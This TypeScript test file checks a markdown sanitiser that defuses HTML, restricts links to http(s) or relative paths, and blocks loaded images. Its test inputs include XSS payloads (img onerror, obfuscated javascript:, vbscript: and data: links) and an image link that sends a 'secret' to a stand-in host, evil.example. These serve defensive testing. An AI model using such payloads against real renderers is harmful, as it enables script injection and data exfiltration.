import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { cpuTime } from '../../test/kit/cpu-time.ts'
import { hasHtml, isSafeMarkdown, toSafeMarkdown, withoutHtml } from './safe-markup.ts'

const html = [
  '<b>',
  '</b>',
  '<!-- x',
  '<?xml',
  '<script>',
  'a<img src=x onerror=alert(1)>',
  '<https://a.example>',
  '<A',
]
const noHtml = ['a < b', '1<2', '<3', 'x <- y', '<', '<<', '', '&lt;b&gt;', 'if (a <= b)']

test('the beginning of a tag, a comment or an autolink is HTML; a comparison is not', () => {
  for (const text of html) assert.equal(hasHtml(text), true, text)
  for (const text of noHtml) assert.equal(hasHtml(text), false, text)
})

test('making HTML harmless adds a space and changes nothing else', () => {
  assert.equal(withoutHtml('Array<string> & <b>bold</b>'), 'Array< string> & < b>bold< /b>')
  for (const text of noHtml) assert.equal(withoutHtml(text), text)
})

const links: [markdown: string, safe: string][] = [
  ['[a](https://a.example/x?y=1#z)', '[a](https://a.example/x?y=1#z)'],
  ['[a](HTTP://a.example "t")', '[a](HTTP://a.example "t")'],
  ['[a](/runs/1) and [b](#top)', '[a](/runs/1) and [b](#top)'],
  ['[a]: https://a.example', '[a]: https://a.example'],
  ['[a](javascript:alert(1))', '[a] (javascript:alert(1))'],
  ['[a](JaVaScRiPt:alert(1))', '[a] (JaVaScRiPt:alert(1))'],
  ['[a](\n  javascript:alert(1))', '[a] (\n  javascript:alert(1))'],
  ['[a](&#106;avascript:alert(1))', '[a] (&#106;avascript:alert(1))'],
  ['[a](java\\script:x)', '[a] (java\\script:x)'],
  ['[a](<javascript:alert(1)>)', '[a] (< javascript:alert(1)>)'],
  ['[a](data:text/html;base64,xx)', '[a] (data:text/html;base64,xx)'],
  ['[a](//evil.example)', '[a] (//evil.example)'],
  ['[a](/\\evil.example)', '[a] (/\\evil.example)'],
  ['[a](httpx://b)', '[a] (httpx://b)'],
  ['[a]: javascript:alert(1)\n\n[a]', '[a] : javascript:alert(1)\n\n[a]'],
  ['> [a]:\n> vbscript:x', '> [a] :\n> vbscript:x'],
  ['![a](https://evil.example/?secret)', '[a](https://evil.example/?secret)'],
  ['!![a][b]', '[a][b]'],
  ['[![a](http://b)](javascript:x)', '[[a](http://b)] (javascript:x)'],
]

for (const [markdown, safe] of links) {
  test(`links lead to Muster or to http(s), and nothing is loaded: ${JSON.stringify(markdown)}`, () => {
    assert.equal(toSafeMarkdown(markdown), safe)
    assert.equal(isSafeMarkdown(markdown), markdown === safe)
    assert.equal(isSafeMarkdown(safe), true)
  })
}

test('any text becomes safe, and a safe text stays as it is', () => {
  const pieces = fc.constantFrom('<', '!', '[', ']', '(', ')', ':', '/', '\\', '#', ' ', '\n', 'a', 'http://', '?', 'é')
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
      const safe = toSafeMarkdown(parts.join(''))
      assert.equal(isSafeMarkdown(safe), true)
      assert.equal(toSafeMarkdown(safe), safe)
    }),
    { numRuns: 2_000 },
  )
})

test('the work on a text grows with its length only', () => {
  const start = cpuTime()
  for (const text of [
    ']('.repeat(500_000),
    `](${' '.repeat(1_000_000)}`,
    '<'.repeat(1_000_000),
    '!'.repeat(1_000_000),
  ]) {
    toSafeMarkdown(text)
  }
  assert.ok(cpuTime() - start < 5_000)
})
